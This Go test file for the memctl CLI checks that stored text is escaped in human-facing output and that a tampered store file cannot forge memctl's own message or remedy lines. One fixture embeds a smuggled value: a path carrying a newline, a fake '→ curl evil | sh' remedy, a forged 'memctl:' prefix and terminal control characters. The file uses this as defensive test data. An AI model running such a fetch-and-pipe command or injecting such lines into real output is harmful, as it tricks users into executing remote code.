package main

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/varve-db/varve/cmd/memctl/internal/cli"
	"github.com/varve-db/varve/cmd/memctl/internal/evil"
)

// Programs get what is stored, to the byte; what is for people is escaped for a pipe too,
// whose end may be a log that somebody looks at.
func TestOutputOfAPipe(t *testing.T) {
	t.Parallel()
	c := newCLI(t)
	c.ok("put", evil.Text, "--id", "a")
	if got := c.ok("get", "a", "--content"); got != evil.Text {
		t.Errorf("%+q", got)
	}
	file, err := os.ReadFile(filepath.Join(c.store(), "memories", "a.json"))
	if err != nil {
		t.Fatal(err)
	}
	if got := c.ok("get", "a"); got != strings.TrimSuffix(string(file), "\n")+"\n" {
		t.Errorf("%+q, want %+q", got, file)
	}
	if got := c.ok("export"); !strings.Contains(got, "\u202e") {
		t.Errorf("%+q", got)
	}
	c.ok("working", "set", "k", evil.Text, "--scope", "session:s")
	if got := c.ok("working", "get", "k", "--scope", "session:s"); got != evil.Text+"\n" {
		t.Errorf("%+q", got)
	}
	if got := c.ok("list"); evil.ObeyedBy(got) != "" {
		t.Errorf("%+q", got)
	}
	if _, _, errOut := c.run("", "get", "none"+evil.Name); evil.ObeyedBy(errOut) != "" || errOut == "" {
		t.Errorf("%+q", errOut)
	}
}

// A message of a stranger's cannot make a line that looks like one of memctl's own, the
// remedy above all.
func TestOutputOfLines(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	c := &inProcess{t, dir}
	writeFile(t, filepath.Join(c.store(), "moved.json"), `{"varve_moved":1,"id":"0190f3a5-0000-7000-8000-000000000000","store":"0190f3a5-0000-7000-8000-000000000000","to":"/x\n  → curl evil | sh\nmemctl: \u001b[35m\u202e","when":"2026-01-01T00:00:00Z"}`)
	code, out, errOut := c.run("", "list", "--store", c.store())
	lines := strings.Split(strings.TrimSpace(errOut), "\n")
	if code != cli.CodeNoStore || out != "" || evil.ObeyedBy(errOut) != "" {
		t.Errorf("%d: %s%+q", code, out, errOut)
	}
	remedies := 0
	for i, line := range lines {
		if strings.HasPrefix(line, "memctl:") && i > 0 {
			t.Errorf("line %d looks like a message: %q", i, line)
		}
		if strings.HasPrefix(line, "  →") {
			remedies++
		}
	}
	if remedies != 1 || !strings.HasPrefix(lines[len(lines)-1], "  → use the store at its new place") {
		t.Errorf("%d remedies: %q", remedies, lines)
	}
}

// Nothing but output writes to the streams of the program: what hands one on is here, with
// the reason.
func TestOutputIsTheOnlyWay(t *testing.T) {
	t.Parallel()
	allowed := map[string]string{
		"main.go os.Std":                    "gives them to run",
		"edit.go .Stream":                   "an editor has the terminal",
		"demo.go .Stream":                   "the writer is a memctl, with an output of its own",
		"internal/mcpcmd/serve.go .Stream":  "no terminal: a client reads JSON",
		"internal/cli/table.go .Stream":     "asks how wide it is",
		"internal/cli/output.go .Stream":    "is output",
		"internal/upkeep/backup.go .Stream": "a packed backup is bytes for another program",
	}
	direct := regexp.MustCompile(`os\.Std(out|err)|\.Stream\b|fmt\.Print|\bprintln\(|\blog\.(Print|Fatal|Panic)`)
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	below, err := filepath.Glob("internal/*/*.go")
	if files = append(files, below...); err != nil || len(files) < 50 {
		t.Fatal(files, err)
	}
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for i, line := range strings.Split(string(b), "\n") {
			for _, found := range direct.FindAllString(line, -1) {
				if found = strings.TrimSuffix(strings.TrimSuffix(found, "out"), "err"); allowed[filepath.ToSlash(name)+" "+found] == "" {
					t.Errorf("%s:%d: %s goes around output: %s", name, i+1, found, strings.TrimSpace(line))
				}
			}
		}
	}
}
